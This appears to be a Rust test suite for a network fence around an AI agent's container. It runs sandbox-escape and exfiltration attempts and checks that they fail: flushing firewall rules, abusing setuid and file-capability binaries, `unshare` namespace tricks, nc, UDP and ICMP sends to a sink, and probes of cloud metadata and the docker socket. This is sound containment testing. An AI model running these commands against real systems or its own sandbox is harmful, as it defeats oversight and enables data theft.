//! One test for each row.

use super::range::{Held, How, METADATA, Range, SEND, docker, docker_output, image};

/// Everything that undoes a fence, were it allowed.
const UNDO: &str = "iptables -F; ip6tables -F; iptables -P OUTPUT ACCEPT; ip6tables -P OUTPUT ACCEPT; nft flush ruleset; \
    ip route replace 203.0.113.0/24 dev eth0; ip link add dummy0 type dummy; ip link set lo down; ip addr add 10.9.9.9/24 dev eth0";

fn no_new_privileges() -> Vec<String> {
    ["--security-opt", "no-new-privileges"].map(str::to_owned).to_vec()
}

fn how() -> How {
    How { docker: no_new_privileges(), ..How::default() }
}

/// The attack from within the container that the agent runs in, as the agent is.
fn attack_as_agent(held: &Held, user: &str, attack: &str) {
    // It may fail in any way; what counts is what it reached.
    let _ = held.exec(user, attack);
}

#[test]
#[ignore = "needs docker"]
fn row_01_rules_routes_and_links_cannot_be_changed() {
    let range = Range::new();
    // Unfenced: the same rules, set by hand in a container that keeps NET_ADMIN, are flushed and the packets arrive.
    let drop_all =
        "printf '*filter\\n:OUTPUT DROP\\nCOMMIT\\n' > /tmp/r; iptables-restore < /tmp/r; ip6tables-restore < /tmp/r";
    let before = range.packets();
    let kept = How { before: format!("{drop_all}; {UNDO}; ip link set lo up"), ..how() };
    range.run(false, SEND, &kept);
    assert!(range.packets() > before, "who keeps NET_ADMIN undoes any rule");
    // Fenced: the agent itself tries, as uid 0; then uid 1000 in the same container.
    let before = range.packets();
    let fenced = range.run(true, &format!("{{ {UNDO}; {SEND}; }} >&2"), &how());
    assert_eq!(fenced.code, 0, "{}{}", fenced.stdout, fenced.stderr);
    let held = range.start(true, &how());
    let state = held.state();
    for user in ["0", "1000"] {
        attack_as_agent(&held, user, &format!("{UNDO}; {SEND}"));
    }
    assert_eq!(held.state(), state, "rules, routes and links are as they were");
    assert_eq!(range.packets() - before, 0);
}

#[test]
#[ignore = "needs docker"]
fn row_02_setuid_and_file_capabilities_give_nothing_back() {
    let range = Range::new();
    // An image with what images of Hydra must not hold: a setuid `ip`, and an `iptables` with NET_ADMIN in its file capabilities.
    let name = format!("hydra-test-setuid-{}", std::process::id());
    docker(&[
        "run",
        "--name",
        &name,
        image(),
        "sh",
        "-c",
        "cp /usr/sbin/xtables-nft-multi /usr/local/bin/iptables-caps && setcap cap_net_admin+ep /usr/local/bin/iptables-caps && \
         cp /bin/ip /usr/local/bin/ip-setuid && chmod 4755 /usr/local/bin/ip-setuid",
    ]);
    docker(&["commit", &name, &name]);
    docker(&["rm", &name]);
    let undo = "cd /usr/local/bin; for t in iptables ip6tables; do ./iptables-caps $t -P OUTPUT ACCEPT; ./iptables-caps $t -F OUTPUT; done; \
                ./iptables-caps iptables -A INPUT -s 203.0.113.9 -j ACCEPT; ./ip-setuid route replace 203.0.113.0/24 dev eth0";
    // Unprotected: without no-new-privileges uid 1000 changes its namespace by either.
    let open = How { image: Some(name.clone()), docker: Vec::new(), ..How::default() };
    let held = range.start(false, &open);
    let state = held.state();
    let _ = docker_output(&["exec", "-u", "1000", &held.name, "sh", "-c", undo]);
    assert_ne!(held.state(), state, "unprotected, they change rules and routes");
    drop(held);
    // Fenced.
    let before = range.packets();
    let held = range.start(true, &How { image: Some(name.clone()), ..how() });
    let state = held.state();
    for user in ["0", "1000"] {
        attack_as_agent(&held, user, &format!("{undo}; {SEND}"));
    }
    assert_eq!(held.state(), state);
    let fenced = range.run(true, &format!("{{ {undo}; {SEND}; }} >&2"), &How { image: Some(name.clone()), ..how() });
    assert_eq!(fenced.code, 0, "{}{}", fenced.stdout, fenced.stderr);
    assert_eq!(range.packets() - before, 0);
    drop(held);
    docker_output(&["rmi", &name]);
}

#[test]
#[ignore = "needs docker"]
fn row_02_without_no_new_privileges_the_job_does_not_start() {
    let range = Range::new();
    let run = range.run(true, SEND, &How::default());
    assert_eq!(run.code, 21, "{}", run.stdout);
    assert!(run.stderr.contains("--security-opt no-new-privileges"), "{}", run.stderr);
    assert!(!run.stdout.contains("\"step\":\"driver\""), "{}", run.stdout);
}

#[test]
#[ignore = "needs docker"]
fn row_03_a_new_user_namespace_has_no_way_out() {
    let range = Range::new();
    let mut how = how();
    // Docker's own filter refuses the call; the fence must hold without it.
    how.docker.extend(["--security-opt", "seccomp=unconfined"].map(str::to_owned));
    let inside = format!("iptables -F; iptables -P OUTPUT ACCEPT; ip link set lo up; {SEND}");
    let attack = format!("unshare -Urn sh -c '{inside}'; unshare -Ur sh -c '{inside}'; true");
    // There is no traffic to be seen unfenced either; what the attack gains is NET_ADMIN, shown by rules that it may set.
    let gained = "unshare -Urn iptables -P OUTPUT DROP";
    let run = [
        "run",
        "--rm",
        "--cap-drop",
        "ALL",
        "--user",
        "1000",
        "--security-opt",
        "seccomp=unconfined",
        image(),
        "sh",
        "-c",
        gained,
    ];
    docker(&run);
    let before = range.packets();
    let run = range.run(true, &attack, &how);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let held = range.start(true, &how);
    let state = held.state();
    attack_as_agent(&held, "1000", &attack);
    assert_eq!(held.state(), state, "the container's own rules are not reached from a new namespace");
    assert_eq!(range.packets() - before, 0);
}

#[test]
#[ignore = "needs docker"]
fn row_04_the_first_instruction_of_the_agent_is_fenced_already() {
    let range = Range::new();
    let starts = if std::env::var_os("HYDRA_NIGHTLY").is_some() { 1_000 } else { 30 };
    let first = "echo x > /dev/udp/$SINK4/9999";
    let how = How {
        docker: [no_new_privileges(), vec!["-e".into(), "HYDRA_DEMO_AGENT=[\"bash\",\"/in/agent.sh\"]".into()]]
            .concat(),
        ..how()
    };
    let before = range.packets();
    range.run(false, first, &how);
    let reached = range.packets() - before;
    assert!(reached > 0, "unfenced the first instruction reaches the sink");
    for _ in 0..starts {
        assert_eq!(range.run(true, first, &how).code, 0);
    }
    assert_eq!(range.packets() - before - reached, 0, "{starts} starts");
    println!("{starts} starts, 0 leaks");
}

#[test]
#[ignore = "needs docker"]
fn row_22_global_ipv6_goes_nowhere() {
    Range::new()
        .both("nc -6 -z -w1 $SINK6 443; nc -6 -z -w1 $SINK6 9000; echo x | nc -6 -u -w1 $SINK6 9999; true", &how());
}

#[test]
#[ignore = "needs docker"]
fn row_23_icmp_goes_nowhere() {
    let ping = |family: &str, protocol: &str, kind: u8, to: &str| {
        format!(
            "python3 -c \"import socket,os; s=socket.socket(socket.{family},socket.SOCK_DGRAM,socket.{protocol}); \
             s.sendto(bytes([{kind},0,0,0,0,1,0,1])+b'data out', (os.environ['{to}'],0))\""
        )
    };
    let v4 = ping("AF_INET", "IPPROTO_ICMP", 8, "SINK4");
    let v6 = ping("AF_INET6", "IPPROTO_ICMPV6", 128, "SINK6");
    let range = Range::new();
    range.both(&format!("{v4}; true"), &how());
    range.both(&format!("{v6}; true"), &how());
}

#[test]
#[ignore = "needs docker"]
fn row_24_quic_and_any_other_udp_go_nowhere() {
    let range = Range::new();
    for port in [53, 123, 443, 4433, 51820] {
        range.both(&format!("echo x | nc -u -w1 $SINK4 {port}; echo x | nc -6 -u -w1 $SINK6 {port}; true"), &how());
    }
}

#[test]
#[ignore = "needs docker"]
fn row_25_cloud_metadata_is_unreachable_by_address_and_by_name() {
    let range = Range::new();
    // The way to it leads to the sink, which has the address; nothing leaves the test's network.
    let mut how = How {
        before: format!("ip route add {}/32 via $SINK4; ip -6 route add {}/128 via $SINK6", METADATA[0], METADATA[1]),
        ..how()
    };
    how.docker.push("--add-host=metadata.google.internal:169.254.169.254".into());
    for target in [METADATA[0], METADATA[1], "metadata.google.internal"] {
        range.both(&format!("nc -z -w1 {target} 80; nc -z -w1 {target} 443; true"), &how);
    }
}

#[test]
#[ignore = "needs docker"]
fn row_25_a_name_of_the_policy_that_points_at_metadata_stays_closed() {
    let range = Range::new();
    let mut how = How { before: format!("ip route add {}/32 via $SINK4", METADATA[0]), ..how() };
    how.docker.push("--add-host=api.example.com:169.254.169.254".into());
    how.job = vec![("allow_hosts", serde_json::json!(["api.example.com"]))];
    range.both("nc -z -w1 api.example.com 443; curl -sk -m 2 https://api.example.com/; true", &how);
}

#[test]
#[ignore = "needs docker"]
fn row_28_sibling_containers_are_unreachable_and_no_engine_socket_is_there() {
    let range = Range::new();
    // The sink is a sibling on the same network: by name, by address, on every port.
    range
        .both("nc -z -w1 sink 443; for p in 22 80 443 2375 2376 8443 9000; do nc -z -w1 $SINK4 $p; done; true", &how());
    let held = range.start(true, &how());
    let found = held.exec("0", "find / -xdev -name 'docker.sock' -o -xdev -name 'containerd.sock' 2>/dev/null; ls /var/run/docker.sock /run/docker.sock 2>/dev/null");
    assert_eq!(String::from_utf8_lossy(&found.stdout).trim(), "");
}

#[test]
#[ignore = "needs docker"]
fn a_model_endpoint_is_reached_and_nothing_beside_it() {
    let range = Range::new();
    let how = How { job: vec![("model_endpoint", serde_json::json!("sink:8443"))], ..how() };
    let before = range.packets();
    let run = range.run(true, "nc -z -w2 $SINK4 8443; curl -sk -m 3 https://sink:8443/; true", &how);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let reached = range.packets() - before;
    assert!(reached > 0, "the endpoint is open");
    range.run(true, SEND, &how);
    assert_eq!(range.packets() - before - reached, 0, "and only it");
}
